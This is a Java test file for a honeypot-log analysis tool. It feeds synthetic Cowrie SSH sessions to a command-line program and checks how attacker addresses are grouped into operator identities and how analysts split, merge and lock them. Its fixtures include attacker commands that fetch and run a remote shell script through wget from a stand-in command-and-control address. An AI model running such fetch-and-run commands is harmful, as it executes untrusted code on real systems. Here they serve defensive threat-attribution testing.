package org.decnet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.decnet.cli.Cli.Ending;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Who is behind addresses, from raw lines through the command line. */
class IdentitiesTest {
  private static final String ONE = "203.0.113.5";
  private static final String OTHER = "198.51.100.6";
  private static final String STRANGER = "192.0.2.7";

  @TempDir Path home;
  private Cli cli;

  @BeforeEach
  void ingest() throws IOException {
    List<String> lines = new ArrayList<>();
    lines.addAll(session("a1", ONE, "wget http://198.51.100.99/x.sh; sh x.sh"));
    lines.addAll(session("b2", OTHER, "busybox wget http://198.51.100.99/y.sh"));
    lines.addAll(session("c3", STRANGER, "uname -a"));
    Path log = Files.write(home.resolve("cowrie.json"), lines);
    cli = new Cli(home.resolve("data"));
    cli.run("ingest", log.toString()).succeeded();
  }

  @Test
  void whatFetchesFromOnePlaceIsOneOperatorAndSaysWhy() {
    Map<String, Object> counts = cli.run("cluster", "--json").succeeded().json();
    assertThat(counts)
        .containsEntry("attackers", 3)
        .containsEntry("identities", 2)
        .containsEntry("identities_of_several_addresses", 1)
        .containsEntry("unread", 0);
    String identity = largest();
    Ending shown = cli.run("show", "identity", identity).succeeded();
    assertThat(shown.out())
        .contains(ONE, OTHER, "c2  1.00 x 1.00  c2:198.51.100.99:80", "T1105", "formed")
        .doesNotContain(STRANGER);
    assertThat(cli.run("show", "identity", identity, "--json").succeeded().rows("attackers"))
        .hasSize(2);
  }

  @Test
  void runAgainItFindsNothingNew() {
    cli.run("cluster").succeeded();
    String before = cli.run("identities", "--json").succeeded().out();
    assertThat(cli.run("cluster").succeeded().out()).contains("Changes     none");
    assertThat(cli.run("identities", "--json").succeeded().out()).isEqualTo(before);
  }

  @Test
  void anAnalystSplitsAndTakesItBack() {
    cli.run("cluster").succeeded();
    String identity = largest();
    String decision =
        String.valueOf(
            cli.run(
                    "identity",
                    "split",
                    identity,
                    "--members",
                    OTHER,
                    "--reason",
                    "resold list",
                    "--json")
                .succeeded()
                .json()
                .get("decision"));
    assertThat(severals()).isEmpty();
    cli.run("cluster").succeeded();
    assertThat(severals()).isEmpty();
    assertThat(cli.run("show", "identity", identity).succeeded().out()).contains("resold list");
    cli.run("identity", "unmerge", decision.substring(0, 8)).succeeded();
    assertThat(severals()).hasSize(1);
    assertThat(largest()).isEqualTo(identity);
    Ending again = cli.run("identity", "unmerge", decision);
    assertThat(again.code()).isEqualTo(1);
    assertThat(again.err()).contains("taken back already");
  }

  @Test
  void anAnalystMergesAndLocks() {
    cli.run("cluster").succeeded();
    List<Map<String, Object>> all = cli.run("identities", "--json").succeeded().rows("data");
    assertThat(all).hasSize(2);
    String a = String.valueOf(all.get(0).get("uuid"));
    String b = String.valueOf(all.get(1).get("uuid"));
    cli.run("identity", "merge", a, b).succeeded();
    assertThat(severals()).extracting(row -> row.get("observation_count")).containsExactly(3);
    cli.run("identity", "lock", a).succeeded();
    assertThat(severals().getFirst()).containsEntry("locked", true);
    cli.run("identity", "unlock", b).succeeded();
    assertThat(severals().getFirst()).containsEntry("locked", false);
  }

  @Test
  void whatIsNotThereIsSaid() {
    String unknown = "00000000-0000-0000-0000-000000000001";
    assertThat(cli.run("identities").succeeded().out()).contains("'decnet cluster' finds them");
    for (String[] command :
        List.of(
            new String[] {"show", "identity", unknown},
            new String[] {"show", "campaign", unknown},
            new String[] {"show", "identity", "x"},
            new String[] {"identity", "lock", unknown},
            new String[] {"identity", "unmerge", "12345678"})) {
      Ending ending = cli.run(command);
      assertThat(ending.code()).as(String.join(" ", command)).isEqualTo(1);
      assertThat(ending.err()).doesNotContain("internal error");
    }
    assertThat(cli.run("identity").code()).isEqualTo(2);
  }

  private String largest() {
    return String.valueOf(
        Objects.requireNonNull(
            cli.run("identities", "--json", "--sort", "largest")
                .succeeded()
                .rows("data")
                .getFirst()
                .get("uuid")));
  }

  private List<Map<String, Object>> severals() {
    return cli.run("identities", "--json", "--least", "2").succeeded().rows("data");
  }

  private static List<String> session(String id, String ip, String command) {
    return List.of(
        line(id, ip, 0, "session.connect", "\"protocol\":\"ssh\","),
        line(id, ip, 1, "login.success", "\"username\":\"root\",\"password\":\"" + id + "\","),
        line(id, ip, 2, "command.input", "\"input\":\"" + command + "\","),
        line(id, ip, 9, "session.closed", "\"duration\":9.0,"));
  }

  private static String line(String id, String ip, int second, String event, String fields) {
    return "{\"eventid\":\"cowrie."
        + event
        + "\","
        + fields
        + "\"src_ip\":\""
        + ip
        + "\",\"session\":\""
        + id
        + "\",\"sensor\":\"web-1\",\"timestamp\":\"2026-03-01T10:00:0"
        + second
        + ".000000Z\"}";
  }
}
